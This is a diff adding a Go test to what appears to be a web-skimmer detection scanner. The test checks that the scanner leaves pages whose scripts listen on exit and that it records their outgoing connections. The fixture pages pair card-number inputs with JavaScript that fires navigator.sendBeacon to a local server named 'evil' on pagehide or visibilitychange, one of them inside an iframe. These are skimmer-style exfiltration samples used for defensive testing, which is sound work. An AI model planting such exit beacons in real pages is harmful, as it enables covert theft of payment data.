@@ -266,3 +266,46 @@ addEventListener('pagehide', function () { navigator.sendBeacon('`+evilSrv.URL+`
 		t.Errorf("final URL %q: leaving must not change the page observed", obs.FinalURL)
 	}
 }
+
+// A page leaves only when something in it runs on exit, in any frame and
+// however it listens (an on… handler included); leaving a page where
+// nothing does would show nothing and cost every scan the wait.
+func TestTheShopperLeavesOnlyPagesThatListenOnExit(t *testing.T) {
+	c := needBrowser(t)
+	var h hits
+	evil := http.NewServeMux()
+	evil.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { h.add(r.URL.Path, "") })
+	evilSrv := serveOn(t, "127.0.0.2", evil)
+	frame := http.NewServeMux()
+	frame.HandleFunc("/frame", func(w http.ResponseWriter, r *http.Request) {
+		html(w, `<!doctype html><script>onpagehide = function () { navigator.sendBeacon('`+evilSrv.URL+`/framed'); };</script>`)
+	})
+	frameSrv := serveOn(t, "127.0.0.3", frame)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/quiet", func(w http.ResponseWriter, r *http.Request) {
+		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form><script>document.addEventListener('click', function () {});</script>`)
+	})
+	mux.HandleFunc("/handler", func(w http.ResponseWriter, r *http.Request) {
+		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form>
+<script>document.onvisibilitychange = function () { navigator.sendBeacon('`+evilSrv.URL+`/handler'); };</script>`)
+	})
+	mux.HandleFunc("/framed", func(w http.ResponseWriter, r *http.Request) {
+		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form><iframe src="`+frameSrv.URL+`/frame"></iframe>`)
+	})
+	srv := serveOn(t, "127.0.0.1", mux)
+	for _, tc := range []struct {
+		path  string
+		leave bool
+	}{{"/quiet", false}, {"/handler", true}, {"/framed", true}} {
+		obs := mustScan(t, c, skimguard.Page{URL: srv.URL + tc.path, Interact: true, Wait: 2 * time.Second})
+		if left := obs.Phases.Departure > 0; left != tc.leave {
+			t.Errorf("%s: left the page %v (departure %s), want %v", tc.path, left, obs.Phases.Departure, tc.leave)
+		}
+		if tc.leave && !slices.ContainsFunc(obs.Connections, func(cn skimguard.Connection) bool { return cn.Origin == evilSrv.URL }) {
+			t.Errorf("%s: the exit beacon is not among the connections: %+v", tc.path, obs.Connections)
+		}
+	}
+	if len(h.values("/handler")) == 0 || len(h.values("/framed")) == 0 {
+		t.Errorf("the exit beacons did not reach the test server (handler %d, framed %d): the pages did not run as written", len(h.values("/handler")), len(h.values("/framed")))
+	}
+}
